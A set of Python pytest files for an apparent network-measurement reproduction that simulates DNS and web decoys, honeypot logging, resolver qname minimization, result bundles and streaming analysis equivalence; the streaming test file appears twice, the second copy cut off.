    hierarchy.add_tld("domain", "192.12.94.30")
    hierarchy.add_tld("com", "192.12.94.31")
    hierarchy.add_zone("www.experiment.domain", "203.0.113.10",
                       wildcard_target="203.0.113.11")
    hierarchy.add_zone("example.com", "198.51.100.53")
    hierarchy.add_static("host.example.com", "198.51.100.80")
    return hierarchy


def make_resolver(minimize=True, observer=None) -> IterativeResolver:
    return IterativeResolver(make_hierarchy(), egress_address="100.88.0.53",
                             qname_minimization=minimize, observer=observer)


class TestHierarchy:
    def test_zone_lookup_picks_longest_match(self):
        hierarchy = make_hierarchy()
        hierarchy.add_zone("deep.www.experiment.domain", "203.0.113.99")
        delegation = hierarchy.zone_for("x.deep.www.experiment.domain")
        assert delegation.zone == "deep.www.experiment.domain"

    def test_wildcard_answer(self):
        hierarchy = make_hierarchy()
        assert hierarchy.authoritative_answer(DECOY) == "203.0.113.11"

    def test_static_answer_beats_wildcard(self):
        hierarchy = make_hierarchy()
        assert hierarchy.authoritative_answer("host.example.com") == "198.51.100.80"

    def test_zone_requires_registered_tld(self):
        hierarchy = DnsHierarchy()
        with pytest.raises(ResolutionError):
            hierarchy.add_zone("x.nosuchtld", "1.2.3.4")


class TestResolution:
    def test_resolves_wildcard_name(self):
        resolver = make_resolver()
        assert resolver.resolve(DECOY) == "203.0.113.11"

    def test_walks_three_levels(self):
        resolver = make_resolver()
        resolver.resolve(DECOY)
        assert resolver.upstream_queries == 3

    def test_unknown_tld_fails(self):
        with pytest.raises(ResolutionError):
            make_resolver().resolve("x.unknowntld")

    def test_unknown_zone_fails(self):
        with pytest.raises(ResolutionError):
            make_resolver().resolve("x.other.domain")

    def test_bare_label_rejected(self):
        with pytest.raises(ResolutionError):
            make_resolver().resolve("localhost")


class TestQnameMinimization:
    def collect(self, minimize):
        seen = []
        resolver = make_resolver(minimize=minimize, observer=seen.append)
        resolver.resolve(DECOY)
        return {query.server_role: query for query in seen}

    def test_minimized_chain_hides_decoy_from_root_and_tld(self):
        by_role = self.collect(minimize=True)
        assert by_role["root"].qname == "domain"
        assert by_role["tld"].qname == "www.experiment.domain"
        assert by_role["authoritative"].qname == DECOY

    def test_unminimized_chain_leaks_full_name_everywhere(self):
        by_role = self.collect(minimize=False)
        assert by_role["root"].qname == DECOY
        assert by_role["tld"].qname == DECOY

    def test_upstream_source_is_resolver_not_client(self):
        """Appendix E's second argument: on resolver-authoritative paths,
        observers see the resolver's egress, never the client address —
        which is why shadowing there cannot track users."""
        seen = []
        resolver = make_resolver(observer=seen.append)
        resolver.resolve(DECOY)
        assert all(query.source_address == "100.88.0.53" for query in seen)

    def test_minimization_reduces_decoy_exposure_surface(self):
        """Quantified: with minimization only 1 of 3 upstream servers ever
        sees the unique decoy name; without it, all 3 do."""
        minimized = self.collect(minimize=True)
        leaked_minimized = sum(
            1 for query in minimized.values() if query.qname == DECOY
        )
        plain = self.collect(minimize=False)
        leaked_plain = sum(1 for query in plain.values() if query.qname == DECOY)
        assert leaked_minimized == 1
        assert leaked_plain == 3

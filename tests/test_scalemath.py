"""Tests for campaign volume arithmetic."""

import pytest

from repro.core.config import ExperimentConfig
from repro.core.scalemath import (
    PAPER_DNS_DECOYS,
    PAPER_DNS_PATHS,
    PAPER_HTTP_DECOYS,
    PAPER_WEB_PATHS,
    config_volume,
    paper_implied_rounds,
    volume_for,
)
from repro.datasets.providers import PAPER_TOTAL_VP_COUNT
from repro.simkit.units import DAY


class TestVolumeFor:
    def test_basic_counts(self):
        volume = volume_for(vps=10, dns_destinations=36, web_destinations=5,
                            rounds=2, duration=DAY)
        assert volume.dns_decoys == 720
        assert volume.http_decoys == 100
        assert volume.tls_decoys == 100
        assert volume.total_decoys == 920

    def test_paths(self):
        volume = volume_for(vps=10, dns_destinations=36, web_destinations=5,
                            rounds=1, duration=DAY)
        assert volume.dns_paths == 360
        assert volume.web_paths == 50

    def test_rate(self):
        volume = volume_for(vps=1, dns_destinations=1, web_destinations=0,
                            rounds=86400, duration=DAY)
        assert volume.decoys_per_second == pytest.approx(1.0)

    def test_rejects_negative(self):
        with pytest.raises(ValueError):
            volume_for(vps=-1, dns_destinations=1, web_destinations=1,
                       rounds=1, duration=DAY)


class TestPaperReconstruction:
    def test_implied_rounds_reconstruct_paper_totals(self):
        implied = paper_implied_rounds()
        dns = PAPER_TOTAL_VP_COUNT * 36 * implied["dns_rounds"]
        web = PAPER_TOTAL_VP_COUNT * 2325 * implied["web_rounds"]
        assert round(dns) == PAPER_DNS_DECOYS
        assert round(web) == PAPER_HTTP_DECOYS

    def test_path_populations_match_in_text(self):
        assert abs(PAPER_TOTAL_VP_COUNT * 36 - PAPER_DNS_PATHS) < 2000
        assert abs(PAPER_TOTAL_VP_COUNT * 2325 - PAPER_WEB_PATHS) < 100_000

    def test_cadence_is_daily_scale(self):
        implied = paper_implied_rounds()
        assert 1 < implied["dns_rounds_per_day"] < 20
        assert 1 < implied["web_rounds_per_day"] < 20


class TestConfigVolume:
    def test_scaled_config(self):
        config = ExperimentConfig(vp_scale=0.02, web_destination_count=48)
        volume = config_volume(config)
        assert volume.vps == round(PAPER_TOTAL_VP_COUNT * 0.02)
        assert volume.dns_decoys == volume.vps * 36
        assert volume.http_decoys == volume.vps * 48

    def test_rounds_multiply(self):
        config = ExperimentConfig(vp_scale=0.02, web_destination_count=48)
        config.phase1_rounds = 3
        assert config_volume(config).dns_decoys == \
            3 * config_volume(ExperimentConfig(vp_scale=0.02)).dns_decoys

"""Tests for TCP connection establishment over simulated paths."""

import random

import pytest

from repro.net.packet import TCPSegment
from repro.net.path import Hop, Path
from repro.net.tcpconn import HandshakeResult, TcpClient, TcpState


def make_path(n_hops: int = 5) -> Path:
    hops = [
        Hop(address=f"10.0.0.{index}", asn=100 + index, country="US")
        for index in range(1, n_hops)
    ]
    hops.append(Hop(address="93.184.216.34", asn=15133, country="US",
                    is_destination=True))
    return Path(hops)


def make_client(path=None, ttl=64) -> TcpClient:
    return TcpClient(
        path=path if path is not None else make_path(),
        src="100.96.0.1", src_port=40000, dst_port=80,
        rng=random.Random(1), ttl=ttl,
    )


class TestHandshake:
    def test_successful_handshake(self):
        client = make_client()
        result = client.connect()
        assert result.established
        assert client.state is TcpState.ESTABLISHED
        assert result.syn_delivered
        assert result.server_isn is not None

    def test_syn_expiry_fails_handshake(self):
        client = make_client(ttl=2)
        result = client.connect()
        assert not result.established
        assert client.state is TcpState.FAILED
        assert result.server_isn is None

    def test_connect_twice_raises(self):
        client = make_client()
        client.connect()
        with pytest.raises(RuntimeError):
            client.connect()

    def test_syn_packet_transits_taps(self):
        path = make_path()
        seen = []
        path.add_tap(2, lambda position, hop, packet: seen.append(packet))
        client = make_client(path=path)
        client.connect()
        # SYN and the final ACK both crossed hop 2.
        assert len(seen) == 2
        assert seen[0].transport.flags & TCPSegment.FLAG_SYN
        assert seen[0].payload == b""


class TestSend:
    def test_send_requires_established(self):
        client = make_client()
        with pytest.raises(RuntimeError):
            client.send(b"GET / HTTP/1.1\r\n\r\n")

    def test_send_delivers_payload(self):
        path = make_path()
        captured = []
        path.add_tap(3, lambda position, hop, packet: captured.append(packet.payload))
        client = make_client(path=path)
        client.connect()
        result = client.send(b"hello")
        assert result.delivered
        assert b"hello" in captured

    def test_sequence_numbers_advance(self):
        client = make_client()
        client.connect()
        first_seq = client._next_seq
        client.send(b"12345")
        assert client._next_seq == (first_seq + 5) & 0xFFFFFFFF

    def test_close_prevents_further_sends(self):
        client = make_client()
        client.connect()
        client.close()
        with pytest.raises(RuntimeError):
            client.send(b"x")

    def test_send_after_failed_handshake_raises(self):
        client = make_client(ttl=1)
        client.connect()
        with pytest.raises(RuntimeError):
            client.send(b"x")

"""Persistence round trips under degraded inputs.

A faulted campaign can legitimately produce lopsided artifacts — an
empty honeypot log (every collector window lost), a bundle whose events
are all Phase II, a log dominated by undecodable noise.  The bundle
format must round-trip all of them without special-casing, and
``LogStore.merged`` must tolerate shards with fault-injected gaps
(empty shards, long silent stretches) without reordering anything.
"""

import dataclasses
import json

import pytest

from repro.core.correlate import Correlator, DecoyLedger, DecoyRecord
from repro.core.identifier import DecoyIdentity, IdentifierCodec
from repro.core.persist import BUNDLE_FORMAT_VERSION, load_bundle
from repro.honeypot.logstore import LoggedRequest, LogStore

ZONE = "www.experiment.domain"
CODEC = IdentifierCodec()


def make_record(sequence=1, phase=1, protocol="dns") -> DecoyRecord:
    identity = DecoyIdentity(sent_at=100, vp_address="100.96.0.1",
                             dst_address="8.8.8.8", ttl=64,
                             sequence=sequence)
    return DecoyRecord(
        identity=identity, domain=f"{CODEC.encode(identity)}.{ZONE}",
        protocol=protocol, vp_id="vp-1", vp_country="DE", vp_province=None,
        destination_address="8.8.8.8", destination_name="Google",
        destination_kind="dns", destination_country="US",
        instance_country="US", path_length=10, sent_at=100.0, phase=phase,
    )


def entry(domain, protocol, time, src="100.88.0.1") -> LoggedRequest:
    return LoggedRequest(time=time, site="US", protocol=protocol,
                         src_address=src, domain=domain)


def write_bundle(directory, records, log_entries):
    """Write a minimal-but-valid bundle the way export_result lays it out."""
    ledger = DecoyLedger()
    for record in records:
        ledger.register(record)
    log = LogStore()
    for item in log_entries:
        log.append(item)
    correlator = Correlator(ledger, zone=ZONE)
    events = (correlator.correlate(log, phase=1).events
              + correlator.correlate(log, phase=2).events)

    (directory / "meta.json").write_text(json.dumps({
        "format_version": BUNDLE_FORMAT_VERSION,
        "config": {"zone": ZONE},
    }))

    def jsonl(name, rows):
        (directory / name).write_text(
            "".join(json.dumps(row, sort_keys=True) + "\n" for row in rows))

    jsonl("ledger.jsonl", (
        {"identity": dataclasses.asdict(record.identity),
         **{key: value
            for key, value in dataclasses.asdict(record).items()
            if key != "identity"}}
        for record in records
    ))
    jsonl("honeypot_log.jsonl",
          (dataclasses.asdict(item) for item in log_entries))
    jsonl("locations.jsonl", ())
    jsonl("ip_directory.jsonl", ())
    (directory / "blocklist.txt").write_text("")
    jsonl("events.jsonl", (
        {"domain": event.decoy.domain, "time": event.request.time,
         "protocol": event.request.protocol, "combo": event.combo,
         "origin": event.origin_address, "phase": event.decoy.phase}
        for event in events
    ))
    return directory


class TestDegradedBundles:
    def test_empty_honeypot_log_round_trips(self, tmp_path):
        # Total collector loss: decoys were sent, nothing ever arrived.
        bundle = load_bundle(write_bundle(tmp_path, [make_record()], []))
        assert len(bundle.ledger) == 1
        assert len(bundle.log) == 0
        assert bundle.phase1.events == []
        assert bundle.phase2.events == []
        assert bundle.locations == []

    def test_completely_empty_bundle_round_trips(self, tmp_path):
        bundle = load_bundle(write_bundle(tmp_path, [], []))
        assert len(bundle.ledger) == 0
        assert len(bundle.log) == 0

    def test_phase2_only_events_round_trip(self, tmp_path):
        record = make_record(sequence=5, phase=2)
        entries = [entry(record.domain, "http", 200.0),
                   entry(record.domain, "https", 300.0)]
        bundle = load_bundle(write_bundle(tmp_path, [record], entries))
        assert bundle.phase1.events == []
        assert [event.combo for event in bundle.phase2.events] == [
            "DNS-HTTP", "DNS-HTTPS"]

    def test_noise_heavy_log_round_trips(self, tmp_path):
        # One real decoy drowned in undecodable junk: every junk name
        # must land in unknown_domains on reload, none may raise.
        record = make_record()
        entries = [entry(record.domain, "dns", 101.0)]
        for index in range(40):
            entries.append(
                entry(f"junk-{index:03d}.{ZONE}", "dns", 102.0 + index))
        bundle = load_bundle(write_bundle(tmp_path, [record], entries))
        assert len(bundle.log) == 41
        assert len(bundle.phase1.unknown_domains) == 40
        assert record.domain in bundle.phase1.initial_arrivals

    def test_mangled_alias_survives_round_trip(self, tmp_path):
        # Alias recovery is a property of correlation, so it must hold
        # equally over a reloaded log.
        record = make_record()
        entries = [entry(f"probe.{record.domain}", "dns", 150.0)]
        bundle = load_bundle(write_bundle(tmp_path, [record], entries))
        assert [event.decoy.domain for event in bundle.phase1.events] == [
            record.domain]
        assert bundle.phase1.unknown_domains == []

    def test_event_count_mismatch_still_detected(self, tmp_path):
        record = make_record()
        write_bundle(tmp_path, [record], [entry(record.domain, "http", 200.0)])
        (tmp_path / "events.jsonl").write_text("")
        with pytest.raises(ValueError, match="inconsistent"):
            load_bundle(tmp_path)


class TestMergedWithGaps:
    def test_empty_and_gapped_shards_interleave_stably(self):
        # Shard 1 lost everything; shard 2 has a long fault-injected gap.
        merged = LogStore.merged([
            [entry("a.x", "dns", 1.0), entry("d.x", "dns", 500.0)],
            [],
            [entry("b.x", "dns", 2.0), entry("c.x", "dns", 400.0),
             entry("e.x", "dns", 10_000.0)],
        ])
        assert [item.domain for item in merged] == [
            "a.x", "b.x", "c.x", "d.x", "e.x"]

    def test_duplicate_entries_from_fault_injection_survive_merge(self):
        # FaultInjectingLog can append the same entry twice; merged()
        # must keep both (dedup is an analysis decision, not the log's).
        doubled = entry("dup.x", "dns", 5.0)
        merged = LogStore.merged([[doubled, doubled]])
        assert len(merged) == 2
        assert merged.for_domain("dup.x") == [doubled, doubled]

    def test_between_uses_maintained_time_index(self):
        store = LogStore()
        for time in (1.0, 2.0, 2.0, 3.0, 10.0):
            store.append(entry(f"t{time}.x", "dns", time))
        assert [item.time for item in store.between(2.0, 4.0)] == [
            2.0, 2.0, 3.0]
        assert store.between(4.0, 5.0) == []
        assert len(store.between(0.0, 100.0)) == 5

    def test_between_index_survives_delayed_and_merged_appends(self):
        merged = LogStore.merged([
            [entry("a.x", "dns", 1.0)],
            [entry("b.x", "dns", 1.5), entry("c.x", "dns", 2.5)],
        ])
        assert [item.domain for item in merged.between(1.0, 2.0)] == [
            "a.x", "b.x"]

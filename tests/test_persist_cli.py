"""Tests for result persistence, the full report, and the CLI."""

import json
import pathlib

import pytest

from repro.analysis.paperreport import full_report
from repro.cli import main
from repro.core.config import ExperimentConfig
from repro.core.experiment import Experiment
from repro.core.persist import AnalysisBundle, export_result, load_bundle


@pytest.fixture(scope="module")
def result():
    return Experiment(ExperimentConfig.tiny(seed=20240301)).run()


@pytest.fixture(scope="module")
def bundle_dir(result, tmp_path_factory):
    directory = tmp_path_factory.mktemp("bundle")
    export_result(result, directory)
    return directory


class TestExport:
    def test_all_files_written(self, bundle_dir):
        names = {path.name for path in bundle_dir.iterdir()}
        assert names == {
            "meta.json", "ledger.jsonl", "honeypot_log.jsonl",
            "events.jsonl", "locations.jsonl", "ip_directory.jsonl",
            "blocklist.txt", "analysis.json",
        }

    def test_meta_counts(self, result, bundle_dir):
        meta = json.loads((bundle_dir / "meta.json").read_text())
        assert meta["decoys"] == len(result.ledger)
        assert meta["log_entries"] == len(result.log)
        assert meta["config"]["seed"] == 20240301

    def test_jsonl_lines_match_counts(self, result, bundle_dir):
        ledger_lines = (bundle_dir / "ledger.jsonl").read_text().splitlines()
        assert len(ledger_lines) == len(result.ledger)
        log_lines = (bundle_dir / "honeypot_log.jsonl").read_text().splitlines()
        assert len(log_lines) == len(result.log)


class TestLoad:
    def test_roundtrip_counts(self, result, bundle_dir):
        bundle = load_bundle(bundle_dir)
        assert len(bundle.ledger) == len(result.ledger)
        assert len(bundle.log) == len(result.log)
        assert len(bundle.locations) == len(result.locations)
        assert len(bundle.phase1.events) == len(result.phase1.events)
        assert len(bundle.phase2.events) == len(result.phase2.events)

    def test_roundtrip_event_combos(self, result, bundle_dir):
        bundle = load_bundle(bundle_dir)
        original = sorted(event.combo for event in result.phase1.events)
        reloaded = sorted(event.combo for event in bundle.phase1.events)
        assert original == reloaded

    def test_blocklist_membership_preserved(self, result, bundle_dir):
        bundle = load_bundle(bundle_dir)
        for event in result.phase1.events[:50]:
            assert (event.origin_address in bundle.blocklist) == \
                (event.origin_address in result.eco.blocklist)

    def test_directory_preserved(self, result, bundle_dir):
        bundle = load_bundle(bundle_dir)
        for event in result.phase1.events[:50]:
            assert bundle.directory.asn_of(event.origin_address) == \
                result.eco.directory.asn_of(event.origin_address)

    def test_rejects_unknown_format(self, bundle_dir, tmp_path):
        broken = tmp_path / "broken"
        broken.mkdir()
        for path in bundle_dir.iterdir():
            (broken / path.name).write_text(path.read_text())
        meta = json.loads((broken / "meta.json").read_text())
        meta["format_version"] = 999
        (broken / "meta.json").write_text(json.dumps(meta))
        with pytest.raises(ValueError):
            load_bundle(broken)

    def test_detects_tampered_log(self, bundle_dir, tmp_path):
        tampered = tmp_path / "tampered"
        tampered.mkdir()
        for path in bundle_dir.iterdir():
            (tampered / path.name).write_text(path.read_text())
        log_path = tampered / "honeypot_log.jsonl"
        lines = log_path.read_text().splitlines()
        log_path.write_text("\n".join(lines[: len(lines) // 2]) + "\n")
        with pytest.raises(ValueError):
            load_bundle(tampered)


class TestFullReport:
    def test_report_from_result(self, result):
        report = full_report(result)
        for marker in ("Figure 3", "Table 2", "Table 3", "Figure 4",
                       "Figure 5", "Figure 6", "Figure 7", "Section 5.2"):
            assert marker in report

    def test_report_from_bundle_matches_result(self, result, bundle_dir):
        from_result = full_report(result)
        from_bundle = full_report(load_bundle(bundle_dir))
        assert from_result == from_bundle


class TestCli:
    def test_platform_command(self, capsys):
        assert main(["platform", "--vp-scale", "0.01"]) == 0
        out = capsys.readouterr().out
        assert "Table 1" in out
        assert "Total" in out

    def test_run_tiny_with_export_and_report(self, tmp_path, capsys):
        bundle = tmp_path / "cli-bundle"
        report_file = tmp_path / "report.txt"
        assert main(["run", "--tiny", "--seed", "7",
                     "--export", str(bundle),
                     "--output", str(report_file)]) == 0
        assert bundle.is_dir()
        assert "Figure 4" in report_file.read_text()
        capsys.readouterr()
        assert main(["report", str(bundle)]) == 0
        out = capsys.readouterr().out
        assert "reloaded" in out

"""Streaming-vs-batch equivalence and merge-algebra tests.

The streaming engine (:mod:`repro.analysis.streaming`) promises *exact*
equality with the batch analyses — not approximate agreement — on any
seed and any shard layout.  This suite pins that contract:

* three seeds x {serial, 4-worker}: every accumulator-derived artifact
  and the fully rendered report are bit-identical to batch;
* ``AnalysisState.merge`` is associative and commutative over arbitrary
  partitions of a run's feed;
* snapshots round-trip through canonical JSON with equal digests.
"""

import itertools
import json

import pytest

from repro.analysis.paperreport import (
    batch_artifacts,
    full_report,
    full_report_from_state,
    streaming_artifacts,
)
from repro.analysis.streaming import AccumulatorMergeError, AnalysisState
from repro.core.config import ExperimentConfig
from repro.core.experiment import Experiment
from repro.core.shard import result_digest
from repro.simkit.units import HOUR

SEEDS = (20240301, 7, 1234)
WORKERS = 4


@pytest.fixture(scope="module")
def runs():
    """seed -> (serial result, 4-worker result)."""
    results = {}
    for seed in SEEDS:
        serial = Experiment(ExperimentConfig.tiny(seed=seed)).run()
        config = ExperimentConfig.tiny(seed=seed)
        config.workers = WORKERS
        sharded = Experiment(config).run()
        results[seed] = (serial, sharded)
    return results


class TestStreamingEqualsBatch:
    @pytest.mark.parametrize("seed", SEEDS)
    def test_serial_report_bit_identical(self, runs, seed):
        serial, _ = runs[seed]
        assert full_report(serial) == full_report_from_state(serial.analysis)

    @pytest.mark.parametrize("seed", SEEDS)
    def test_sharded_report_bit_identical(self, runs, seed):
        _, sharded = runs[seed]
        assert sharded.analysis is not None
        assert full_report(sharded) == full_report_from_state(sharded.analysis)

    @pytest.mark.parametrize("seed", SEEDS)
    def test_every_artifact_equal(self, runs, seed):
        """Artifact-by-artifact comparison, not just the rendered text."""
        serial, _ = runs[seed]
        batch = batch_artifacts(serial)
        streaming = streaming_artifacts(serial.analysis)
        assert batch.keys() == streaming.keys()
        for key in batch:
            assert batch[key] == streaming[key], f"artifact {key!r} differs"

    @pytest.mark.parametrize("seed", SEEDS)
    def test_sharded_state_equals_serial_state(self, runs, seed):
        serial, sharded = runs[seed]
        assert result_digest(serial) == result_digest(sharded)
        assert serial.analysis.digest() == sharded.analysis.digest()

    @pytest.mark.parametrize("seed", SEEDS)
    def test_sharded_report_equals_serial_report(self, runs, seed):
        serial, sharded = runs[seed]
        assert (full_report_from_state(sharded.analysis)
                == full_report(serial))


def partition_feed(result, parts):
    """Re-feed a serial run's observations round-robin into fresh states.

    Covers exactly what the campaign fed ``result.analysis``: every decoy
    at send time, every Phase I event, every Phase II location, and the
    final log length (assigned wholly to part 0 — merge sums it).
    """
    eco = result.eco
    states = [AnalysisState(directory=eco.directory, blocklist=eco.blocklist)
              for _ in range(parts)]
    for index, record in enumerate(result.ledger.records()):
        states[index % parts].observe_decoy(record)
    for index, event in enumerate(result.phase1.events):
        states[index % parts].observe_event(event)
    for index, location in enumerate(result.locations):
        states[index % parts].observe_location(location)
    states[0].set_log_entries(len(result.log))
    return states


class TestMergeAlgebra:
    def test_merge_commutative_over_permutations(self, runs):
        serial, _ = runs[SEEDS[0]]
        states = partition_feed(serial, 4)
        digests = {
            AnalysisState.merged([states[i] for i in order]).digest()
            for order in itertools.permutations(range(4))
        }
        assert digests == {serial.analysis.digest()}

    def test_merge_associative(self, runs):
        serial, _ = runs[SEEDS[0]]
        a, b, c, d = partition_feed(serial, 4)
        left = AnalysisState.merged([a, b]).merge(
            AnalysisState.merged([c, d]))
        right = AnalysisState.merged([a]).merge(b).merge(c).merge(d)
        assert left.digest() == right.digest() == serial.analysis.digest()

    def test_partition_count_invariant(self, runs):
        serial, _ = runs[SEEDS[0]]
        reference = serial.analysis.digest()
        for parts in (1, 2, 3, 5):
            merged = AnalysisState.merged(partition_feed(serial, parts))
            assert merged.digest() == reference

    def test_merged_state_renders_identically(self, runs):
        serial, _ = runs[SEEDS[0]]
        merged = AnalysisState.merged(partition_feed(serial, 3))
        assert full_report_from_state(merged) == full_report(serial)

    def test_mismatched_multi_use_window_rejected(self):
        left = AnalysisState()
        right = AnalysisState()
        right.multi_use.after = 2 * HOUR
        with pytest.raises(AccumulatorMergeError):
            left.merge(right)


class TestSnapshotRoundTrip:
    def test_snapshot_is_canonical_json(self, runs):
        serial, _ = runs[SEEDS[0]]
        snapshot = serial.analysis.snapshot()
        wire = json.dumps(snapshot, sort_keys=True)
        assert json.loads(wire) == json.loads(wire)  # stable encoding
        restored = AnalysisState.from_snapshot(json.loads(wire))
        assert restored.digest() == serial.analysis.digest()

    def test_restored_state_renders_identically(self, runs):
        serial, _ = runs[SEEDS[0]]
        restored = AnalysisState.from_snapshot(serial.analysis.snapshot())
        assert full_report_from_state(restored) == full_report(serial)

    def test_restored_state_cannot_observe(self, runs):
        serial, _ = runs[SEEDS[0]]
        restored = AnalysisState.from_snapshot(serial.analysis.snapshot())
        with pytest.raises(RuntimeError):
            restored.observe_event(serial.phase1.events[0])

    def test_unknown_format_rejected(self):
        snapshot = AnalysisState().snapshot()
        snapshot["format"] = 999
        with pytest.raises(ValueError):
            AnalysisState.from_snapshot(snapshot)


def _ciphertext_config(seed, workers=1):
    """The encrypted-transport reference shape (mirrors test_analysis)."""
    config = ExperimentConfig.tiny(seed=seed)
    config.doh_adoption = 0.4
    config.ech_adoption = 0.5
    config.ciphertext_observer_share = 0.6
    config.ciphertext_fpr = 0.02
    config.nod_noise_rate = 0.2
    config.workers = workers
    return config


@pytest.fixture(scope="module")
def ciphertext_runs():
    """seed -> (serial result, 4-worker result), matrix enabled."""
    return {
        seed: (Experiment(_ciphertext_config(seed)).run(),
               Experiment(_ciphertext_config(seed, workers=WORKERS)).run())
        for seed in SEEDS
    }


class TestMitigationMatrixEquivalence:
    """The matrix accumulator upholds the same bit-identity contract as
    every other accumulator: batch and streaming render paths agree, and
    a 4-worker shard merge reproduces the serial bytes exactly."""

    @pytest.mark.parametrize("seed", SEEDS)
    def test_batch_report_equals_streaming_report(self, ciphertext_runs, seed):
        serial, _ = ciphertext_runs[seed]
        batch = full_report(serial)
        assert batch == full_report_from_state(serial.analysis)
        assert "Mitigation vs observer class" in batch

    @pytest.mark.parametrize("seed", SEEDS)
    def test_serial_equals_sharded(self, ciphertext_runs, seed):
        serial, sharded = ciphertext_runs[seed]
        assert result_digest(serial) == result_digest(sharded)
        assert serial.analysis.digest() == sharded.analysis.digest()
        assert full_report(serial) == full_report(sharded)

    @pytest.mark.parametrize("seed", SEEDS)
    def test_matrix_snapshot_round_trips(self, ciphertext_runs, seed):
        serial, _ = ciphertext_runs[seed]
        snapshot = serial.analysis.snapshot()
        assert "matrix" in snapshot
        wire = json.dumps(snapshot, sort_keys=True)
        restored = AnalysisState.from_snapshot(json.loads(wire))
        assert restored.matrix.enabled
        assert restored.digest() == serial.analysis.digest()
        assert full_report_from_state(restored) == full_report(serial)


class TestMatrixMergeAlgebra:
    def _accumulator(self, link_threshold=3):
        from repro.analysis.streaming import MitigationMatrixAccumulator
        return MitigationMatrixAccumulator(enabled=True,
                                           link_threshold=link_threshold)

    def test_merge_is_union_and_order_free(self):
        import json as json_module
        a, b = self._accumulator(), self._accumulator()
        for acc, domains in ((a, ("d1", "d2")), (b, ("d2", "d3"))):
            for domain in domains:
                acc.observe_sent("ech", domain)
                acc.observe_classified("traffic-analysis", "ech", domain)
                acc.observe_flow("ech", domain, "10.0.0.1")
                acc.observe_event(type("E", (), {
                    "decoy": type("D", (), {"mitigation": "ech"})(),
                    "provenance": "metadata-inferred"})())
        ab, ba = self._accumulator(), self._accumulator()
        ab.merge(a); ab.merge(b)
        ba.merge(b); ba.merge(a)
        assert (json_module.dumps(ab.snapshot(), sort_keys=True)
                == json_module.dumps(ba.snapshot(), sort_keys=True))
        rows = {m: cells for m, _, cells in ab.rows()}
        assert ab.rows()[0][1] == 3  # union, not sum
        assert rows["ech"]["traffic-analysis"] == 3

    def test_link_threshold_applies_across_mitigations(self):
        acc = self._accumulator(link_threshold=3)
        acc.observe_sent("none", "d1")
        acc.observe_sent("ech", "d2")
        acc.observe_sent("doh", "d3")
        for mitigation, domain in (("none", "d1"), ("ech", "d2")):
            acc.observe_flow(mitigation, domain, "10.0.0.9")
        assert acc.flagged_destinations() == set()
        acc.observe_flow("doh", "d3", "10.0.0.9")  # third distinct domain
        assert acc.flagged_destinations() == {"10.0.0.9"}
        rows = {m: cells for m, _, cells in acc.rows()}
        assert rows["none"]["dst-ip"] == 1
        assert rows["ech"]["dst-ip"] == 1
        assert rows["doh"]["dst-ip"] == 1

    def test_disabled_default_adopts_enabled_side(self):
        base = AnalysisState()
        other = AnalysisState(matrix_enabled=True, matrix_link_threshold=2)
        base.merge(other)
        assert base.matrix.enabled
        assert base.matrix.link_threshold == 2

    def test_conflicting_link_thresholds_rejected(self):
        left = AnalysisState(matrix_enabled=True, matrix_link_threshold=2)
        right = AnalysisState(matrix_enabled=True, matrix_link_threshold=3)
        with pytest.raises(AccumulatorMergeError):
            left.merge(right)

    def test_default_state_snapshot_is_matrixless(self):
        assert "matrix" not in AnalysisState().snapshot()

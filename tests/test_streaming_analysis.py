"""Streaming-vs-batch equivalence and merge-algebra tests.

The streaming engine (:mod:`repro.analysis.streaming`) promises *exact*
equality with the batch analyses — not approximate agreement — on any
seed and any shard layout.  This suite pins that contract:

* three seeds x {serial, 4-worker}: every accumulator-derived artifact
  and the fully rendered report are bit-identical to batch;
* ``AnalysisState.merge`` is associative and commutative over arbitrary
  partitions of a run's feed;
* snapshots round-trip through canonical JSON with equal digests.
"""

import itertools
import json

import pytest

from repro.analysis.paperreport import (
    batch_artifacts,
    full_report,
    full_report_from_state,
    streaming_artifacts,
)
from repro.analysis.streaming import AccumulatorMergeError, AnalysisState
from repro.core.config import ExperimentConfig
from repro.core.experiment import Experiment
from repro.core.shard import result_digest
from repro.simkit.units import HOUR

SEEDS = (20240301, 7, 1234)
WORKERS = 4


@pytest.fixture(scope="module")
def runs():
    """seed -> (serial result, 4-worker result)."""
    results = {}
    for seed in SEEDS:
        serial = Experiment(ExperimentConfig.tiny(seed=seed)).run()
        config = ExperimentConfig.tiny(seed=seed)
        config.workers = WORKERS
        sharded = Experiment(config).run()
        results[seed] = (serial, sharded)
    return results


class TestStreamingEqualsBatch:
    @pytest.mark.parametrize("seed", SEEDS)
    def test_serial_report_bit_identical(self, runs, seed):
        serial, _ = runs[seed]
        assert full_report(serial) == full_report_from_state(serial.analysis)

    @pytest.mark.parametrize("seed", SEEDS)
    def test_sharded_report_bit_identical(self, runs, seed):
        _, sharded = runs[seed]
        assert sharded.analysis is not None
        assert full_report(sharded) == full_report_from_state(sharded.analysis)

    @pytest.mark.parametrize("seed", SEEDS)
    def test_every_artifact_equal(self, runs, seed):
        """Artifact-by-artifact comparison, not just the rendered text."""
        serial, _ = runs[seed]
        batch = batch_artifacts(serial)
        streaming = streaming_artifacts(serial.analysis)
        assert batch.keys() == streaming.keys()
        for key in batch:
            assert batch[key] == streaming[key], f"artifact {key!r} differs"

    @pytest.mark.parametrize("seed", SEEDS)
    def test_sharded_state_equals_serial_state(self, runs, seed):
        serial, sharded = runs[seed]
        assert result_digest(serial) == result_digest(sharded)
        assert serial.analysis.digest() == sharded.analysis.digest()

    @pytest.mark.parametrize("seed", SEEDS)
    def test_sharded_report_equals_serial_report(self, runs, seed):
        serial, sharded = runs[seed]
        assert (full_report_from_state(sharded.analysis)
                == full_report(serial))


def partition_feed(result, parts):
    """Re-feed a serial run's observations round-robin into fresh states.

    Covers exactly what the campaign fed ``result.analysis``: every decoy
    at send time, every Phase I event, every Phase II location, and the
    final log length (assigned wholly to part 0 — merge sums it).
    """
    eco = result.eco
    states = [AnalysisState(directory=eco.directory, blocklist=eco.blocklist)
              for _ in range(parts)]
    for index, record in enumerate(result.ledger.records()):
        states[index % parts].observe_decoy(record)
    for index, event in enumerate(result.phase1.events):
        states[index % parts].observe_event(event)
    for index, location in enumerate(result.locations):
        states[index % parts].observe_location(location)
    states[0].set_log_entries(len(result.log))
    return states


class TestMergeAlgebra:
    def test_merge_commutative_over_permutations(self, runs):
        serial, _ = runs[SEEDS[0]]
        states = partition_feed(serial, 4)
        digests = {
            AnalysisState.merged([states[i] for i in order]).digest()
            for order in itertools.permutations(range(4))
        }
        assert digests == {serial.analysis.digest()}

    def test_merge_associative(self, runs):
        serial, _ = runs[SEEDS[0]]
